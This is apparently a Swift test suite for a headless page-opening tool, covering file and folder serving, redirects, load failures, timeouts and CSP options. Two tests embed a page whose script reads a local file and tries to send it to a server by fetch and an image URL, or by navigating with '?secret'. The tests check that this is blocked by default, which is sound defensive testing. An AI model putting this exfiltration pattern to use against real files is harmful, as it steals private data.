import Foundation
import Testing
import TomboloEngine
import TomboloTesting

extension CommandTests {
    struct TargetKindTests {
        @Test func aFileIsServedWithItsFolder() async throws {
            let run = try await CommandRun.open("My Site/other page.html", "--evaluate", "scripts/place.js")
            #expect(run.output == #"["app://my-site","app://my-site/other%20page.html"]"# + "\n", "\(run.errors)")
        }

        /// By default a page that is opened as a file cannot send data over plain HTTP to a server that the policy does not name. The case with
        /// a policy that names the server confirms that the page tries to send data.
        @Test(arguments: [("local", 0), ("none", 0), ("named", 2)])
        func aFileCannotSendItsFolderToAServerByDefault(policy: String, requests: Int) async throws {
            let server = try await LocalServer.start()
            let folder = TemporaryFolder()
            try Data("secret".utf8).write(to: folder.file("tax.txt"))
            let web = server.url("/ok").absoluteString
            let page = """
                <script>
                window.sent = (async () => {
                    const body = await (await fetch('tax.txt')).text();
                    await fetch('\(web)', {method: 'POST', mode: 'no-cors', body}).catch(() => {});
                    const image = new Image();
                    await new Promise((end) => { image.onerror = image.onload = end; image.src = '\(web)?' + body; });
                    return body;
                })();
                </script>
                """
            try Data(page.utf8).write(to: folder.file("mail.html"))
            let origin = Origin(of: server.url("/ok")).description
            let named = "connect-src 'self' \(origin); img-src \(origin)"
            let options = policy == "local" ? [] : ["--csp", policy == "named" ? named : policy]
            let run = try await CommandRun.of(
                ["open", folder.file("mail.html").path(percentEncoded: false), "--headless", "--timeout", "60"]
                    + options
                    + ["--evaluate", "-"], input: "return await window.sent")
            #expect(run.output == "\"secret\"\n", "\(run.errors)")
            #expect(run.errors.contains("--csp \(policy)") == (policy != "named"))
            #expect(await server.requestCount(of: "/ok") == requests)
            await server.stop()
        }

        @Test func aFileCannotNavigateToAServerByDefault() async throws {
            let server = try await LocalServer.start()
            let folder = TemporaryFolder()
            let page =
                "<script>setTimeout(() => { location = '\(server.url("/ok").absoluteString)?secret' }, 0)</script>"
            try Data(page.utf8).write(to: folder.file("mail.html"))
            let run = try await CommandRun.of(
                ["open", folder.file("mail.html").path(percentEncoded: false), "--headless", "--timeout", "60"]
                    + ["--evaluate", "-"],
                input: "await new Promise((end) => setTimeout(end, 500)); return 'still here'")
            #expect(run.output == "\"still here\"\n", "\(run.errors)")
            #expect(await server.requestCount(of: "/ok") == 0)
            await server.stop()
        }

        @Test func aFileURLIsLoadedAsAFile() async throws {
            let file = Fixtures.folder.appending(path: "My Site/index.html")
            let run = try await CommandRun.open(
                file.absoluteString, "--evaluate", "scripts/place.js", "--grant", "debug.*@self")
            #expect(run.output == "[\"null\",\"\(file.absoluteString)\"]\n", "\(run.errors)")
        }

        @Test func selfInAGrantForAFileURLIsItsFolder() async throws {
            let file = Fixtures.folder.appending(path: "jump/landing.html")
            let run = try await CommandRun.open(
                file.absoluteString, "--evaluate", "scripts/denied.js", "--grant", "debug.*@self")
            #expect(run.output == #"{"value":1}"# + "\n", "\(run.errors)")
        }

        @Test func aWebPageIsLoadedFromItsServer() async throws {
            let server = try await LocalServer.start(files: Fixtures.folder.appending(path: "My Site"))
            let url = server.url("/index.html")
            let run = try await CommandRun.open(
                url.absoluteString, "--evaluate", "scripts/place.js", "--grant", "debug.*@self")
            #expect(run.output == "[\"http://127.0.0.1:\(server.port)\",\"\(url)\"]\n", "\(run.errors)")
            await server.stop()
        }

        @Test func aRedirectIsFollowed() async throws {
            let server = try await LocalServer.start()
            let run = try await CommandRun.open(
                server.url("/redirect/chain/3").absoluteString, "--evaluate", "scripts/place.js")
            #expect(run.output.contains("/ok"), "\(run.errors)")
            await server.stop()
        }

        @Test(arguments: ["/status/401", "/status/403", "/status/404", "/status/500", "/status/503", "/drop"])
        func errorResponsesAreFailedLoads(path: String) async throws {
            let server = try await LocalServer.start()
            let run = try await CommandRun.open(server.url(path).absoluteString, "--evaluate", "scripts/place.js")
            #expect(run.status == 2, "\(run.errors)")
            #expect(run.output == "")
            #expect(run.errors.contains("could not be loaded"))
            await server.stop()
        }

        @Test(arguments: [(401, "WWW-Authenticate"), (407, "Proxy-Authenticate")])
        func aPageThatNeedsAPasswordIsAFailedLoad(status: Int, field: String) async throws {
            let server = try await LocalServer.start()
            await server.respond(
                .html("<p>Who are you?</p>", status: status, headers: [(field, "Basic realm=\"here\"")]), at: "/closed")
            let run = try await CommandRun.of([
                "open", server.url("/closed").absoluteString, "--headless", "--evaluate", "scripts/place.js",
                "--timeout", "20",
            ])
            #expect(run.status == 2, "\(run.errors)")
            #expect(run.errors.contains("could not be loaded"), "\(run.errors)")
            await server.stop()
        }

        @Test func aServerThatDoesNotAnswerTimesOut() async throws {
            let server = try await LocalServer.start()
            let url = server.url("/delay/20000").absoluteString
            let folder = TemporaryFolder()
            let run = try await CommandRun.of([
                "open", url, "--headless", "--screenshot", folder.file("page.png").path(percentEncoded: false),
                "--timeout", "2",
            ])
            #expect(run.status == 3)
            #expect(run.errors.contains("did not load within 2 s"), "\(run.errors)")
            await server.stop()
        }

        @Test(arguments: [
            ("empty", ["has no readable file index.html"]), ("nowhere.html", ["no folder or file"]),
            ("http://nohost.invalid/", ["nohost.invalid"]),
            // The text is the engine's from WebKitGTK 2.54 on.
            ("http://127.0.0.1:9/", ["ports that browsers block", "restricted network port"]),
            ("file:///nowhere/a.html", ["nowhere"]),
        ])
        func aMissingTargetIsAFailedLoad(target: String, words: [String]) async throws {
            let run = try await CommandRun.open(target, "--evaluate", "scripts/place.js")
            #expect(run.status == 2, "\(run.errors)")
            #expect(words.contains { run.errors.contains($0) }, "\(run.errors)")
        }

        @Test(arguments: ["gone.html?q=1#part", "pages/g%6Fne%20too.html", "/gone.html", "pages/"])
        func aMissingFileToWhichThePageNavigatesAtOnceIsNamed(address: String) async throws {
            let folder = TemporaryFolder()
            try Data("<script>location = '\(address)'</script>".utf8).write(to: folder.file("index.html"))
            let run = try await CommandRun.open(
                folder.url.path(percentEncoded: false), "--evaluate", "scripts/place.js")
            #expect(run.status == 2 && run.output == "", "\(run)")
            let names = [
                "/gone.html": "gone.html", "gone.html?q=1#part": "gone.html", "pages/": "pages/index.html",
                "pages/g%6Fne%20too.html": "pages/gone too.html",
            ]
            #expect(run.errors.contains("has no readable file “\(names[address] ?? "")”"), "\(run)")
        }

        @Test(arguments: [
            ("none", "true"), ("strict", "false"), ("script-src 'unsafe-inline'", "true"),
            ("script-src 'none'", "false"),
        ])
        func theOptionCSPSetsThePolicyOfAServedFolder(policy: String, ranInline: String) async throws {
            let run = try await CommandRun.open(
                "My Site", "--csp", policy, "--evaluate", "-", input: "return window.wasInlined === true")
            #expect(run.output == ranInline + "\n", "\(run.errors)")
        }
    }
}
